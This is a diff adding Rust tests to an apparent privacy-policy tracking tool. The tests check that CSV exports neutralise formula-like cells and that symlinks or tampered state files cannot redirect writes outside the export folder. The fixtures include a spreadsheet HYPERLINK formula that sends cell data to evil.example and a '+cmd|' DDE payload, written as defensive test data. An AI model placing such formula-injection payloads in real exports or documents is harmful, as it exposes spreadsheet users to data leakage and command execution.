@@ -422,3 +422,280 @@ fn an_sqlite_export_writes_datasette_metadata_describing_every_column() {
     );
     assert!(!db.exists(), "nothing is exported when the metadata cannot be written");
 }
+
+/// One document whose first version states the AI-training provision in a sentence that
+/// starts like a spreadsheet formula, as a hostile page can, with list items that do too.
+const FORMULA_V1: &str = "<h1>Privacy Policy</h1>\
+    <p>=HYPERLINK(\"http://evil.example/?leak=\"&amp;A1,\"Click for details\") We may use your content to train our AI models.</p>\
+    <ul><li>+cmd|' /C calc'!A0 we share data with advertising partners.</li><li>@SUM(1+1) we keep your data for 90 days.</li></ul>";
+/// Adds a sentence; the formula-like ones stay.
+const FORMULA_V2: &str = "<h1>Privacy Policy</h1>\
+    <p>=HYPERLINK(\"http://evil.example/?leak=\"&amp;A1,\"Click for details\") We may use your content to train our AI models.</p>\
+    <p>We never sell data.</p>\
+    <ul><li>+cmd|' /C calc'!A0 we share data with advertising partners.</li><li>@SUM(1+1) we keep your data for 90 days.</li></ul>";
+
+fn one_document(first: &str) -> (TestServer, TestArchive) {
+    let server = TestServer::start();
+    let archive = TestArchive::new();
+    archive.declare_simple("acme", "Acme", &[("privacy-policy", &server.url("/privacy"))]);
+    server.page("/privacy", &policy_page(first, DAY4));
+    let (code, stdout, stderr) = archive.run_at(DAY4, &["track"]);
+    assert_eq!(code, 0, "{stdout}{stderr}");
+    (server, archive)
+}
+
+/// Every cell of a CSV file as it is stored, by column name.
+fn raw_csv_cells(path: &Path) -> Vec<(String, String)> {
+    let mut reader = csv::Reader::from_path(path).unwrap();
+    let headers = reader.headers().unwrap().clone();
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        for (column, cell) in headers.iter().zip(record.unwrap().iter()) {
+            cells.push((column.to_string(), cell.to_string()));
+        }
+    }
+    cells
+}
+
+#[test]
+fn csv_cells_that_start_like_a_formula_get_an_apostrophe_and_read_back_exactly() {
+    let (server, archive) = one_document(FORMULA_V1);
+    let out = tempfile::tempdir().unwrap();
+    let csv = out.path().join("csv");
+    let jsonl = out.path().join("jsonl");
+    for (format, dir) in [("csv", &csv), ("jsonl", &jsonl)] {
+        let (code, stdout, stderr) =
+            archive.run_at(DAY4, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
+        assert_eq!(code, 0, "{format}: {stdout}{stderr}");
+    }
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\") \
+        We may use your content to train our AI models.";
+
+    // No stored cell of any table starts a formula.
+    for table in TABLES {
+        for (column, cell) in raw_csv_cells(&csv.join(format!("{table}.csv"))) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{table}.{column} starts a formula: {cell:?}"
+            );
+        }
+    }
+    let occurrences = raw_csv_cells(&csv.join("provision_occurrences.csv"));
+    assert!(
+        occurrences.contains(&("sentence".to_string(), format!("'{hyperlink}"))),
+        "{occurrences:?}"
+    );
+    let changes = raw_csv_cells(&csv.join("sentence_changes.csv"));
+    let new_sentences: Vec<&str> = changes
+        .iter()
+        .filter(|(column, _)| column == "new_sentence")
+        .map(|(_, cell)| cell.as_str())
+        .collect();
+    assert!(
+        new_sentences.contains(&format!("'{hyperlink}").as_str()),
+        "{new_sentences:?}"
+    );
+    assert!(
+        new_sentences.contains(&"'- +cmd|' /C calc'!A0 we share data with advertising partners."),
+        "{new_sentences:?}"
+    );
+    // JSON Lines keeps the exact text.
+    let jsonl_occurrences = jsonl_table(&jsonl, "provision_occurrences");
+    assert!(
+        jsonl_occurrences.iter().any(|o| o["sentence"] == hyperlink),
+        "{jsonl_occurrences:?}"
+    );
+
+    // An incremental run reads the quoted cells back as the text they hold: the
+    // occurrence goes on (not closed and opened again), and the tables are the bytes a
+    // fresh export of the same history writes.
+    server.page("/privacy", &policy_page(FORMULA_V2, DAY5));
+    let (code, stdout, stderr) = archive.run_at(DAY5, &["track"]);
+    assert_eq!(code, 0, "{stdout}{stderr}");
+    let versions_before = std::fs::read(csv.join("versions.csv")).unwrap();
+    let fresh = out.path().join("fresh");
+    for dir in [&csv, &fresh] {
+        let (code, stdout, stderr) =
+            archive.run_at(DAY5, &["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
+        assert_eq!(code, 0, "{stdout}{stderr}");
+    }
+    assert!(
+        std::fs::read(csv.join("versions.csv"))
+            .unwrap()
+            .starts_with(&versions_before),
+        "rows are appended"
+    );
+    for table in TABLES {
+        let file = format!("{table}.csv");
+        assert_eq!(
+            std::fs::read_to_string(csv.join(&file)).unwrap(),
+            std::fs::read_to_string(fresh.join(&file)).unwrap(),
+            "{file}: an incremental export differs from a fresh one"
+        );
+    }
+    let occurrences = csv_table(&csv, "provision_occurrences");
+    let ai: Vec<_> = occurrences.iter().filter(|o| o["provision"] == "ai-training").collect();
+    assert_eq!(ai.len(), 1, "{occurrences:?}");
+    assert_eq!(ai[0]["sentence"], format!("'{hyperlink}"));
+    assert_eq!(ai[0]["first_seen"], DAY4);
+    assert_eq!(ai[0]["last_seen"], DAY5);
+    assert_eq!(ai[0]["in_force"], "1");
+}
+
+/// A file outside every export folder, to be pointed at.
+fn victim(dir: &Path, name: &str) -> std::path::PathBuf {
+    let path = dir.join(name);
+    std::fs::write(&path, "keep me\n").unwrap();
+    path
+}
+
+#[test]
+fn a_link_at_an_export_temporary_name_is_never_written_through() {
+    let (server, archive) = one_document(FORMULA_V1);
+    let out = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    for format in ["csv", "jsonl"] {
+        let dir = out.path().join(format);
+        let (code, stdout, stderr) =
+            archive.run_at(DAY4, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
+        assert_eq!(code, 0, "{stdout}{stderr}");
+        // The temporary names a run writes the rewritten tables and the state to.
+        for file in ["documents", "provision_occurrences"]
+            .map(|t| format!("{t}.{format}"))
+            .into_iter()
+            .chain(["export.json".to_string()])
+        {
+            for temp in [format!(".{file}.clausewatch-tmp"), format!(".{file}.tmp")] {
+                let target = victim(outside.path(), &format!("{format}-{temp}"));
+                std::os::unix::fs::symlink(&target, dir.join(&temp)).unwrap();
+            }
+        }
+    }
+    server.page("/privacy", &policy_page(FORMULA_V2, DAY5));
+    assert_eq!(archive.run_at(DAY5, &["track"]).0, 0);
+    for format in ["csv", "jsonl"] {
+        let dir = out.path().join(format);
+        let (code, stdout, stderr) =
+            archive.run_at(DAY5, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
+        assert_eq!(code, 0, "{format}: {stdout}{stderr}");
+        assert!(stdout.contains("1 version"), "{stdout}");
+        for file in ["documents", "provision_occurrences"].map(|t| format!("{t}.{format}")) {
+            let meta = std::fs::symlink_metadata(dir.join(&file)).unwrap();
+            assert!(meta.is_file(), "{file} is a regular file");
+        }
+        assert!(
+            std::fs::read_to_string(dir.join("export.json"))
+                .unwrap()
+                .contains("\"lengths\"")
+        );
+    }
+    for entry in std::fs::read_dir(outside.path()).unwrap() {
+        let path = entry.unwrap().path();
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap(),
+            "keep me\n",
+            "{}",
+            path.display()
+        );
+    }
+}
+
+#[test]
+fn a_link_at_a_table_or_the_state_of_an_export_refuses_the_run_naming_it() {
+    let (server, archive) = one_document(FORMULA_V1);
+    let out = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    server.page("/privacy", &policy_page(FORMULA_V2, DAY5));
+    let mut tracked = false;
+    for format in ["csv", "jsonl"] {
+        for table in [
+            "versions",
+            "sentence_changes",
+            "documents",
+            "provision_occurrences",
+            "export",
+        ] {
+            let file = if table == "export" {
+                "export.json".to_string()
+            } else {
+                format!("{table}.{format}")
+            };
+            let dir = out.path().join(format!("{format}-{table}"));
+            let (code, stdout, stderr) =
+                archive.run_at(DAY4, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
+            assert_eq!(code, 0, "{stdout}{stderr}");
+            // The link points at a copy of the file it replaces, with the length the
+            // state records, as a hostile folder would be made to pass every check.
+            let target = outside.path().join(format!("{format}-{file}"));
+            std::fs::rename(dir.join(&file), &target).unwrap();
+            std::os::unix::fs::symlink(&target, dir.join(&file)).unwrap();
+            let before = std::fs::read(&target).unwrap();
+            if !tracked {
+                assert_eq!(archive.run_at(DAY5, &["track"]).0, 0);
+                tracked = true;
+            }
+
+            let (code, stdout, stderr) =
+                archive.run_at(DAY5, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
+            assert_eq!(code, 3, "{file}: {stdout}{stderr}");
+            assert!(
+                stderr.contains(&format!("{} is a symbolic link", dir.join(&file).display())),
+                "{stderr}"
+            );
+            assert_eq!(
+                std::fs::read(&target).unwrap(),
+                before,
+                "{file}: the file outside is unchanged"
+            );
+            assert!(dir.join(&file).is_symlink(), "{file}: the link is left alone");
+        }
+    }
+}
+
+#[test]
+fn export_json_naming_a_file_outside_the_folder_is_refused_before_anything_is_written() {
+    let (_server, archive) = one_document(FORMULA_V1);
+    let out = tempfile::tempdir().unwrap();
+    let absolute = victim(out.path(), "absolute.txt");
+    let relative = victim(out.path(), "relative.txt");
+    for entry in [absolute.to_str().unwrap(), "../relative.txt", "versions.csv"] {
+        let dir = out.path().join("exp");
+        std::fs::create_dir_all(&dir).unwrap();
+        let state = serde_json::json!({
+            "format": "jsonl", "schema": 1,
+            "last_commit": "0000000000000000000000000000000000000000",
+            "exported_at": "2026-03-02T00:00:00Z", "taxonomy": "x", "clausewatch_version": "0.1.0",
+            "lengths": { entry: 0 },
+        });
+        std::fs::write(dir.join("export.json"), state.to_string()).unwrap();
+        let (code, stdout, stderr) =
+            archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
+        assert_eq!(code, 2, "{entry}: {stdout}{stderr}");
+        assert!(
+            stderr.contains(&format!(
+                "{} lists {entry:?} in \"lengths\", which is not a table of this export",
+                dir.join("export.json").display()
+            )),
+            "{stderr}"
+        );
+        for file in [&absolute, &relative] {
+            assert_eq!(std::fs::read_to_string(file).unwrap(), "keep me\n", "{entry}");
+        }
+    }
+
+    // A table's own name, in an export that cannot be continued, cuts nothing either:
+    // the state is checked before any write.
+    let dir = out.path().join("jsonl");
+    let (code, _, stderr) = archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
+    assert_eq!(code, 0, "{stderr}");
+    let versions = std::fs::read(dir.join("versions.jsonl")).unwrap();
+    let state = std::fs::read_to_string(dir.join("export.json")).unwrap();
+    let mut state: serde_json::Value = serde_json::from_str(&state).unwrap();
+    state["taxonomy"] = "another tagger".into();
+    state["lengths"]["versions.jsonl"] = 0.into();
+    std::fs::write(dir.join("export.json"), state.to_string()).unwrap();
+    let (code, _, stderr) = archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(stderr.contains("taxonomy"), "{stderr}");
+    assert_eq!(std::fs::read(dir.join("versions.jsonl")).unwrap(), versions);
+}
